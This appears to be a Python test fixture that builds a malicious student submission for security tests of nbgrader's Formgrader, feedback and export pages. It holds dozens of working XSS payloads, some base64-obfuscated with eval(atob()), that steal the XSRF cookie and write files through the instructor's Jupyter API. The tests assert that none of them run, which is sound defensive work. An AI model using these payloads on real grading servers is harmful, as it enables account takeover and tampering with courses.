"""Scripts a student can hand in, in every place a submission carries them: the corpus of the
tests of the pages that show a submission to the instructor (tests/hub/test_browser_hub.py, the
Formgrader through the hub; tests/pages/test_submission_pages.py, the feedback page, the report and
the exports, and nbgrader's stock Formgrader, the canary).

`hostile_submission(release)` is the release notebook with the correct answers typed in (it
scores full marks) and every vector below added where a student can put it:

- outputs of re-run cells: the answer cells and cells of the student's own display HTML, SVG,
  Markdown, LaTeX, JavaScript, raw MIME bundles and output metadata (run again by the grader,
  so these land in the graded notebook);
- Markdown cells the student adds, and a cell's attachments;
- metadata of the notebook and of a cell (a forged nbgrader grade id, tags, widget state);
- names: the student's id and first and last names (`STUDENT_ID`, `FIRST_NAME`, `LAST_NAME`),
  and a file of the submission (`evil.html`) linked from a Markdown cell.

Each vector, when it runs, acts as the instructor: it writes the file `xss-<vector>.txt` into
the server's root (the course) through the Jupyter API of the page's server, with the
instructor's cookies and XSRF token, and logs `vector-ran:<vector>` to the console. A test
asserts that no such file appears, that the page sends no request to the Jupyter API, and
that no marker is logged; the canary asserts the opposite on stock nbgrader. The vectors named
in CLICKED need a click (a link): the tests click every link named CLICK.
"""

import base64
import json

from answers import CORRECT, fill

MARKER = "vector-ran:"
CLICK = "click-me"


def script(vector):
    """What a vector runs: log the marker, then write a file into the course through the
    instructor's Jupyter API (the server of the page: /user/NAME on the hub)."""
    return (
        "(function(){var v=" + json.dumps(vector) + ";console.log(" + json.dumps(MARKER) + "+v);"
        "try{var b=location.pathname.split('/formgrader')[0].split('/lab')[0];"
        "var t=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "fetch(b+'/api/contents/xss-'+v+'.txt',{method:'PUT',credentials:'include',"
        "headers:{'Content-Type':'application/json','X-XSRFToken':decodeURIComponent(t)},"
        "body:JSON.stringify({type:'file',format:'text',content:v})});}catch(e){}})()"
    )


def encoded(vector):
    """eval(atob(...)) of the vector's script, its base64 without '/' or '+' (a file name can
    hold it: a student id is a folder's name)."""
    padding = ""
    while True:
        text = base64.b64encode((script(vector) + padding).encode()).decode()
        if "/" not in text and "+" not in text:
            return f"eval(atob(`{text}`))"
        padding += " "


def js(vector):
    """The vector's script as the text of an event handler attribute (double-quoted)."""
    return encoded(vector)


# --- names --------------------------------------------------------------------------------------


def short_script(vector):
    """A shorter script for a name that is a file's (255 bytes at most): no space, no '/', no
    bracket (nbgrader globs the folder's name); it makes a new file in the course through the
    same API (POST), and logs the marker."""
    return (
        "s='\\x2f';fetch(location.pathname.split(s+'formgrader').shift()+s+'api'"
        "+s+'contents',{method:'POST',headers:{'X-XSRFToken':document.cookie.split('_xsrf=')"
        f".pop().split(';').shift()}},body:'{{}}'}});console.log('{MARKER}{vector}')"
    )


# The student id is a folder's name (submitted/<id>/...); it leaves an attribute first.
STUDENT_ID = f'x"><svg onload={short_script("student-id")}>'
assert len(STUDENT_ID.encode()) <= 255 and not set("/[]") & set(STUDENT_ID)
FIRST_NAME = f'<img src=x onerror="{js("first-name")}">'
LAST_NAME = f'<img src=y onerror="{js("last-name")}">'

# --- the vectors, by place ----------------------------------------------------------------------

# Outputs of re-run cells: code the student adds to an answer cell or a cell of their own.
ANSWER_CELL_CODE = (
    "from IPython.display import HTML, display\n"
    f"display(HTML('<img src=x onerror=\"{js('answer-html-onerror')}\">'))\n"
)


def _display(vector, kind, value, **options):
    extra = "".join(f", {k}={v!r}" for k, v in options.items())
    return f"display({kind}({value!r}){extra})  # {vector}\n"


def output_cell_code():
    """A cell of the student's that displays every output vector when the grader runs it."""
    lines = [
        "from IPython.display import HTML, SVG, Latex, Markdown, Javascript, display\n",
        _display(
            "output-svg-onload",
            "SVG",
            '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
            f'onload="{js("output-svg-onload")}"><circle cx="10" cy="10" r="8"/></svg>',
        ),
        _display(
            "output-svg-script",
            "SVG",
            '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
            f"<script>{script('output-svg-script')}</script><rect width='9' height='9'/></svg>",
        ),
        _display("output-markdown", "Markdown", f'<img src=x onerror="{js("output-markdown")}">'),
        _display(
            "output-latex",
            "Latex",
            r"$\text{<img src=x onerror=" + js("output-latex") + r">}$",
        ),
        _display("output-javascript", "Javascript", script("output-javascript")),
        _display(
            "output-html-details",
            "HTML",
            f'<details open ontoggle="{js("output-html-details")}">x</details>',
        ),
        _display(
            "output-html-isolated",
            "HTML",
            f"<script>{script('output-html-isolated')}</script>",
            metadata={"isolated": True},
        ),
        "display({'text/html': "
        + repr(f"<script>{script('output-bundle-script')}</script>")
        + ", 'text/plain': 'bundle'}, raw=True)  # output-bundle-script\n",
        "display({'image/png': 'broken'}, raw=True, metadata={'image/png': {'width': "
        + repr(f"1 onerror={encoded('output-png-width')}")
        + "}})  # output-png-width: an unquoted attribute in nbconvert's template\n",
        "display(HTML("
        + repr(f'<iframe srcdoc="<script>{script("output-iframe-srcdoc")}</script>"></iframe>')
        + "))  # output-iframe-srcdoc\n",
        "display(HTML("
        + repr(f'<a href="javascript:{js("output-js-link")}">{CLICK}</a>')
        + "))  # output-js-link\n",
        # The student's plot (a PNG, which the page must still show) and a table.
        "import matplotlib.pyplot as plt\n",
        "plt.figure(figsize=(3, 2)); plt.plot([0, 1, 2], [0.69, 0.4, 0.1]); plt.title('cost')\n",
        "plt.show()\n",
        "display(HTML('<table><thead><tr><th>layer</th><th>units</th></tr></thead>"
        "<tbody><tr><td>1</td><td>10</td></tr></tbody></table>'))  # a table\n",
    ]
    return "".join(lines)


# Markdown cells the student adds.
MARKDOWN_CELLS = {
    "markdown-img-onerror": f'My notes <img src=x onerror="{js("markdown-img-onerror")}">',
    "markdown-svg-onload": f'<svg onload="{js("markdown-svg-onload")}"></svg> a figure',
    "markdown-script": f"<script>{script('markdown-script')}</script> a script",
    "markdown-iframe-srcdoc": (
        f'<iframe srcdoc="<script>{script("markdown-iframe-srcdoc").replace(chr(34), "&quot;")}'
        '</script>"></iframe>'
    ),
    "markdown-math-text": r"The cost $\text{<img src=x onerror="
    + js("markdown-math-text")
    + r">}$",
    "markdown-mxss": (
        f'<math><mtext><table><mglyph><style><img src=x onerror="{js("markdown-mxss")}">'
        "</style></mglyph></table></mtext></math>"
    ),
    "markdown-noscript": (
        f'<noscript><p title="</noscript><img src=x onerror={encoded("markdown-noscript")}>">'
        "</noscript>"
    ),
    "markdown-js-link": f"[{CLICK}](javascript:{js('markdown-js-link')})",
    "markdown-object": (
        '<object data="data:text/html;base64,'
        + base64.b64encode(f"<script>{script('markdown-object')}</script>".encode()).decode()
        + '"></object>'
    ),
    "file-html": f"My figure is in [{CLICK}](evil.html)",
}
# A cell's attachments: an SVG with a script, and a type the renderer would take as it is.
ATTACHMENT_CELL = "Attached: ![plot](attachment:plot.svg) ![other](attachment:other.bin)"
ATTACHMENTS = {
    "plot.svg": {
        "image/svg+xml": base64.b64encode(
            (
                '<svg xmlns="http://www.w3.org/2000/svg" onload="'
                + js("attachment-svg")
                + '"><rect width="5" height="5"/></svg>'
            ).encode()
        ).decode()
    },
    "other.bin": {'text/html" onerror="' + js("attachment-type") + '" x="': "AAAA"},
}
# Metadata: a forged nbgrader cell whose grade id the templates write as they are, tags, the
# notebook's title and widget state.
FORGED_GRADE_ID = f'x"><img src=x onerror="{js("cell-grade-id")}"><b id="'
CELL_TAGS = [f'"><img src=x onerror="{js("cell-tags")}">']
NOTEBOOK_TITLE = f"</title><script>{script('notebook-title')}</script><title>"
WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "state": {},
        "version_major": 2,
        "version_minor": 0,
        "note": f"</script><script>{script('notebook-widgets')}</script>",
    }
}
# A file of the submission, linked from a Markdown cell ("file-html").
EVIL_HTML = f"<!DOCTYPE html><p>figure</p><script>{script('file-html')}</script>"

# Every vector, by name: the tests look for each marker and file.
VECTORS = sorted(
    {
        "student-id",
        "first-name",
        "last-name",
        "answer-html-onerror",
        "output-svg-onload",
        "output-svg-script",
        "output-markdown",
        "output-latex",
        "output-javascript",
        "output-html-details",
        "output-html-isolated",
        "output-bundle-script",
        "output-png-width",
        "output-iframe-srcdoc",
        "output-js-link",
        *MARKDOWN_CELLS,
        "attachment-svg",
        "attachment-type",
        "cell-grade-id",
        "cell-tags",
        "notebook-title",
        "notebook-widgets",
    }
)
CLICKED = {"output-js-link", "markdown-js-link", "file-html"}


def _markdown(source, **fields):
    cell = {"cell_type": "markdown", "id": f"student-md-{len(source) % 9973}", "metadata": {}}
    return {**cell, "source": source, **fields}


def hostile_submission(release):
    """The release notebook (as nbformat reads it) answered correctly, with every vector where
    a student can put it (see the module's docstring), as a dict."""
    nb = json.loads(json.dumps(fill(release, CORRECT)))
    cells = nb["cells"]
    answer = next(
        i
        for i, c in enumerate(cells)
        if "initialize_parameters_zeros" in "".join(c["source"])
        and c["metadata"].get("nbgrader", {}).get("solution")
    )
    cells[answer]["source"] = "".join(cells[answer]["source"]) + "\n" + ANSWER_CELL_CODE
    added = [
        {
            "cell_type": "code",
            "id": "student-outputs",
            "metadata": {"tags": CELL_TAGS},
            "execution_count": None,
            "outputs": [],
            "source": output_cell_code(),
        },
        *(
            {**_markdown(source), "id": f"student-{name}"}
            for name, source in MARKDOWN_CELLS.items()
        ),
        {**_markdown(ATTACHMENT_CELL, attachments=ATTACHMENTS), "id": "student-attachments"},
        {
            **_markdown("My own notes on the answer."),
            "id": "student-forged",
            "metadata": {
                "nbgrader": {
                    "grade": False,
                    "solution": True,
                    "locked": False,
                    "task": False,
                    "grade_id": FORGED_GRADE_ID,
                    "schema_version": 3,
                }
            },
        },
    ]
    cells[answer + 1 : answer + 1] = added
    nb["metadata"]["title"] = NOTEBOOK_TITLE
    nb["metadata"]["widgets"] = WIDGET_STATE
    return nb
